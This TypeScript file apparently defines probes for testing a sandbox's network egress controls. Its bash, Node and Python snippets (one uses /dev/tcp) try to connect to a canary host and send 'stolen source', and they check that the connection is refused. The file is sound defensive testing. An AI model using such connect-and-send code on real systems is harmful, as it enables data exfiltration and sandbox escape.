/**
 * The vocabulary of the probes: what an attacker inside the sandbox tries, with which program, and what exactly has to come of it.
 * A probe that gets anything else has failed, also where that is another refusal: then somebody has to look.
 */
import type { Body, Program, Target } from './inside/plan.mts';

export interface Probe {
  readonly id: string;
  /** What is tried, as it stands in the table. */
  readonly attack: string;
  readonly program: Program;
  /** Any of these, to the letter. */
  readonly expected: readonly string[];
  /** The request is allowed by design, and upstream may see it. */
  readonly reachesUpstream?: boolean;
  /** Everything the program prints is searched for the secrets of this run; `expected` must contain `nothing secret`. */
  readonly searched?: boolean;
  /** Default: the group's own. */
  readonly lane?: string;
  /** Default 15,000. */
  readonly timeoutMs?: number;
}

export interface Group {
  readonly name: string;
  readonly about: string;
  readonly probes: (place: Place) => readonly Probe[];
}

export interface CanaryPlace {
  readonly httpPort: number;
  readonly httpsPort: number;
  readonly tcpPort: number;
  readonly tcp6Port: number | null;
  readonly udpPort: number;
  /** An abstract Unix socket, which lives in a network namespace and not in a file system. */
  readonly abstractName: string;
  /** A file outside, readable by everybody. */
  readonly file: string;
  /** The process outside. */
  readonly pid: number;
}

/** Where the attacker is and what is around: facts of one run. */
export interface Place {
  /** In every request that must not arrive, so that it is found where it must not be. */
  readonly marker: string;
  readonly model: string;
  readonly architecture: 'x64' | 'arm64';
  /** The attacker's host: on the loopback interface of the machine outside. */
  readonly canary: CanaryPlace;
  /** An address of the machine outside, not the loopback's. */
  readonly hostAddress: string;
  readonly botPort: number;
  readonly githubPort: number;
  readonly openaiPort: number;
  readonly checkout: string;
  /** Id of another task's sandbox. */
  readonly otherSandbox: string;
}

export const repositoryUrl = 'https://github.com/acme/split-bill.git';
export const refs = '/acme/split-bill.git/info/refs?service=git-upload-pack';

/** A refusal of the egress decision: its status and its code. */
export const notGranted = ['403 host.not-granted'] as const;
/** A path that a URL parser would change: refused at the gateway where it would become another, and by the decision. */
export const badPath = ['400 target_invalid', '400 url.not-plain', '403 github.path'] as const;

export function curl(
  id: string,
  attack: string,
  args: readonly string[],
  expected: readonly string[],
  more: Partial<Probe> & { readonly body?: Body } = {},
): Probe {
  const { body, ...rest } = more;
  return {
    id,
    attack,
    expected,
    program: { kind: 'curl', args, ...(body === undefined ? {} : { body }) },
    ...rest,
  };
}

export function script(
  id: string,
  attack: string,
  language: Extract<Program, { kind: 'script' }>['language'],
  source: string,
  expected: readonly string[],
  more: Partial<Probe> & { readonly target?: Target } = {},
): Probe {
  const { target, ...rest } = more;
  return {
    id,
    attack,
    expected,
    program: { kind: 'script', language, source, ...(target === undefined ? {} : { target }) },
    ...rest,
  };
}

export const unreachable = ['ENETUNREACH'] as const;
export const refusedConnection = ['ECONNREFUSED'] as const;

/** Tries a connection by the shell's own means: no resolver, proxy setting or library is in the way. */
export const bashConnect = `
if error=$( { exec 3<>"/dev/tcp/$PROBE_ADDRESS/$PROBE_PORT" && printf 'stolen source' >&3; } 2>&1 ); then echo CONNECTED
elif [[ $error == *'Network is unreachable'* ]]; then echo ENETUNREACH
elif [[ $error == *'Connection refused'* ]]; then echo ECONNREFUSED
else echo "$error" | tail -n 1; fi`;

export const nodeConnect = `
import { connect } from 'node:net';
const socket = connect({ host: process.env.PROBE_ADDRESS, port: Number(process.env.PROBE_PORT) });
socket.setTimeout(4000, () => { console.log('ETIMEDOUT'); process.exit(); });
socket.on('connect', () => socket.end('stolen source', () => { console.log('CONNECTED'); process.exit(); }));
socket.on('error', (error) => { console.log(error.code); process.exit(); });`;

export const nodeDatagram = `
import { createSocket } from 'node:dgram';
const address = process.env.PROBE_ADDRESS;
const socket = createSocket(address.includes(':') ? 'udp6' : 'udp4');
socket.on('error', (error) => { console.log(error.code); process.exit(); });
socket.send('stolen source', Number(process.env.PROBE_PORT), address, (error) => {
  // A connected peer would tell of a closed port; a sent datagram is an escape, whoever gets it.
  console.log(error === null ? 'SENT' : error.code);
  process.exit();
});`;

export const pythonConnect = `
import errno, os, socket
address, port = os.environ['PROBE_ADDRESS'], int(os.environ['PROBE_PORT'])
try:
    with socket.create_connection((address, port), 4) as connection:
        connection.sendall(b'stolen source')
        print('CONNECTED')
except OSError as error:
    print(errno.errorcode.get(error.errno, str(error)))`;

export const tcp = (address: string, port: number): Target => ({ protocol: 'tcp', address, port });
export const udp = (address: string, port: number): Target => ({ protocol: 'udp', address, port });
